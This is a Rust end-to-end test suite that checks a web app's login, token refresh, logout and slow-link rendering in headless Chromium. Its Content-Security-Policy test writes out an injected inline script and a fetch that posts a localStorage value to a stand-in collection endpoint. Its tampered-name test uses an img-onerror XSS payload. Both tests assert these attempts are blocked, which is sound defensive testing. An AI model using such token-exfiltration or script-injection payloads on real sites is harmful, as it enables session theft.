//! The app end to end: the release build in headless Chromium against the reference backend.
//!
//! ```text
//! trunk build --release && cargo test -p interceptor-e2e -- --test-threads=1
//! ```

mod scenarios;

use interceptor_e2e::{Browser, Harness, DEMO_PASSWORD, DEMO_USERNAME};
use serde_json::{json, Value};
use std::time::Duration;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logging_in_through_the_form_shows_the_user_at_home() {
    let h = Harness::start().await;
    scenarios::logging_in_shows_the_user_at_home(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reload_keeps_the_session() {
    let h = Harness::start().await;
    scenarios::a_reload_keeps_the_session(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_access_token_does_not_stop_the_next_action() {
    let h = Harness::start().await;
    scenarios::an_expired_access_token_does_not_stop_the_next_action(&h, false).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_refresh_sends_to_login_and_back_to_the_same_page() {
    let h = Harness::start().await;
    scenarios::a_refused_refresh_sends_to_login_and_back_to_the_same_page(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logging_out_ends_the_session_on_the_server_too() {
    let h = Harness::start().await;
    scenarios::logging_out_ends_the_session_on_the_server_too(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_logout_in_one_tab_logs_the_other_out() {
    let h = Harness::start().await;
    scenarios::a_logout_in_one_tab_logs_the_other_out(&h).await;
    h.finish().await;
}

/// The page's Content-Security-Policy: the app runs under it, and it refuses what an injected
/// script would need to steal the tokens from localStorage: running inline code, and sending
/// them to another origin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_content_security_policy_refuses_inline_scripts_and_other_origins() {
    let h = Harness::start().await;
    h.log_in_from_home().await;
    let violation = |attempt: &str| {
        format!(
            "return new Promise(resolve => {{
                document.addEventListener('securitypolicyviolation',
                    event => resolve(event.effectiveDirective), {{ once: true }});
                setTimeout(() => resolve('allowed'), 2000);
                {attempt}
            }});"
        )
    };
    let inline = h
        .browser
        .execute(
            &violation(
                "const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.head.append(s);",
            ),
            vec![],
        )
        .await;
    assert_eq!(inline, json!("script-src-elem"));
    let elsewhere = h
        .browser
        .execute(
            &violation("fetch('http://127.0.0.1:9/collect', { method: 'POST', body: localStorage.getItem('x') }).catch(() => {});"),
            vec![],
        )
        .await;
    assert_eq!(elsewhere, json!("connect-src"));
    h.finish().await;
}

/// On a slow link the login form is there (index.html's app shell) seconds before the app: what
/// the visitor types, and their "Log in", reach the app when it arrives.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_login_form_works_before_the_app_has_arrived() {
    let h = Harness::start_eager().await;
    let browser = &h.browser;
    browser.emulate_slow_link(60_000).await;
    browser.open("/login").await;
    assert!(
        browser.count("#app-shell").await == 1,
        "the page is parsed and the app is not there yet"
    );
    browser.submit_login(DEMO_USERNAME, DEMO_PASSWORD).await;
    assert_eq!(
        browser.count("#app-shell").await,
        1,
        "typed and submitted before the app arrived (it would have removed the shell)"
    );
    browser
        .wait_for_location_within("/", Duration::from_secs(30))
        .await;
    browser
        .wait_for_text("[data-test=username]", DEMO_USERNAME)
        .await;
    let log = h.server.log().await;
    let logins = log
        .iter()
        .filter(|entry| entry.path.ends_with("/jwt/create/"))
        .count();
    assert_eq!(logins, 1, "one login, with what was typed");
    h.finish().await;
}

/// The backend goes away while a refresh is due and comes back on the same port.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_going_down_during_a_refresh_keeps_the_session_and_recovers() {
    let mut h = Harness::start().await;
    scenarios::the_server_going_down_during_a_refresh_keeps_the_session_and_recovers(&mut h).await;
    h.finish().await;
}

/// Installed before any script of the next documents runs: at every frame, what the page shows
/// (`window.frames_seen`): whether the app shell is still there, the (first) username's text and
/// where it is, where the activity panel's heading is, and whether a login field is on screen.
const FRAME_SAMPLER: &str = r"
(() => {
  window.frames_seen = [];
  const place = (selector) => {
    const found = document.querySelector(selector);
    if (!found || found.getClientRects().length === 0) return null;
    const { x, y, width } = found.getBoundingClientRect();
    return [x, y, width];
  };
  const sample = () => {
    window.frames_seen.push({
      shell: document.getElementById('app-shell') !== null,
      name: document.querySelector('[data-test=username]')?.textContent ?? null,
      name_at: place('[data-test=username]'),
      activity_at: place('.activity h2'),
      login_form: place('#username') !== null,
    });
    if (window.frames_seen.length < 5000) requestAnimationFrame(sample);
  };
  requestAnimationFrame(sample);
})();";

/// Opens `/` on a slow link with a cold cache (the wasm takes seconds, so what shows before the
/// app is there shows long enough to be seen) and returns every frame seen until the app took
/// over, and a few after.
async fn frames_of_opening_home_on_a_slow_link(browser: &Browser) -> Vec<Value> {
    browser.emulate_slow_link(120_000).await;
    browser.cdp("Network.clearBrowserCache", json!({})).await;
    browser
        .cdp(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({ "source": FRAME_SAMPLER }),
        )
        .await;
    browser.open("/").await;
    browser.wait_for_the_app(Duration::from_secs(30)).await;
    // A few frames of the app's own.
    tokio::time::sleep(Duration::from_millis(200)).await;
    match browser.execute("return window.frames_seen;", vec![]).await {
        Value::Array(frames) => frames,
        other => panic!("no frames recorded: {other}"),
    }
}

/// The returning user on a slow link: the shell shows their home page, name included, long
/// before the app, and the app takes it over without the name ever missing from a frame, or
/// moving, and without a login form ever showing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_returning_user_sees_their_home_before_the_app_and_the_name_never_goes() {
    let h = Harness::start().await;
    h.log_in_from_home().await;
    let browser = &h.browser;
    let frames = frames_of_opening_home_on_a_slow_link(browser).await;

    let named = |frame: &&Value| frame["name"] == json!(DEMO_USERNAME);
    let first_named = frames
        .iter()
        .position(|frame| named(&frame))
        .unwrap_or_else(|| panic!("the name never showed: {frames:?}"));
    let (by_shell, by_app): (Vec<&Value>, Vec<&Value>) = frames[first_named..]
        .iter()
        .partition(|frame| frame["shell"] == json!(true));
    assert!(
        by_shell.len() >= 5,
        "the shell showed the name for {} frames before the app",
        by_shell.len()
    );
    assert!(!by_app.is_empty(), "the app's own frames: {frames:?}");
    assert!(
        frames[first_named..].iter().all(|frame| named(&frame)),
        "from its first frame on, every frame shows the name: {frames:?}"
    );
    assert!(
        frames
            .iter()
            .all(|frame| frame["login_form"] == json!(false)),
        "no login form ever showed"
    );
    let (last_shell, first_app) = (by_shell[by_shell.len() - 1], by_app[0]);
    for place in ["name_at", "activity_at"] {
        assert_eq!(
            last_shell[place], first_app[place],
            "{place}: nothing moves when the app takes over"
        );
    }
    h.finish().await;
}

/// A returning user whose session has run out while away gets the login form from the first
/// frame, saying so; the home page never shows.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_returning_user_whose_session_ran_out_gets_the_login_form_at_once() {
    let h = Harness::start().await;
    h.server.set_config(json!({ "refresh_ttl_ms": 2000 })).await;
    h.log_in_from_home().await;
    let browser = &h.browser;
    tokio::time::sleep(Duration::from_millis(2100)).await;
    let frames = frames_of_opening_home_on_a_slow_link(browser).await;
    assert!(
        frames
            .iter()
            .all(|frame| frame["name"].as_str().is_none_or(str::is_empty)
                && frame["name_at"].is_null()),
        "the home page never showed: {frames:?}"
    );
    let first_with_content = frames
        .iter()
        .position(|frame| frame["login_form"] == json!(true))
        .unwrap_or_else(|| panic!("no login form: {frames:?}"));
    assert!(
        frames[first_with_content..]
            .iter()
            .all(|frame| frame["login_form"] == json!(true)),
        "the login form stays through the hand-over: {frames:?}"
    );
    browser.wait_for_location("/login").await;
    browser
        .wait_for_text(".alert", "Your session has expired. Please log in again.")
        .await;
    h.finish().await;
}

/// A stored user whose name is HTML (storage is the page's, but not to be trusted as markup):
/// the shell shows it as text, and nothing of it runs or renders as an element.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_stored_name_is_shown_as_text() {
    let h = Harness::start().await;
    h.log_in_from_home().await;
    let browser = &h.browser;
    let name = r#"<img src="/x" onerror="window.injected = 1">demo"#;
    let key = interceptor_e2e::storage_key();
    let mut state = h.stored_state().await.expect("a stored session");
    state["session"]["user"]["username"] = json!(name);
    browser.set_local_storage(&key, &state.to_string()).await;
    let frames = frames_of_opening_home_on_a_slow_link(browser).await;
    assert!(
        frames
            .iter()
            .any(|frame| frame["shell"] == json!(true) && frame["name"] == json!(name)),
        "the shell showed the name as it is stored: {frames:?}"
    );
    browser.wait_for_text("[data-test=username]", name).await;
    assert_eq!(browser.count("img").await, 0, "no element was made of it");
    assert_eq!(
        browser
            .execute("return window.injected ?? null;", vec![])
            .await,
        Value::Null,
        "nothing of it ran"
    );
    h.finish().await;
}
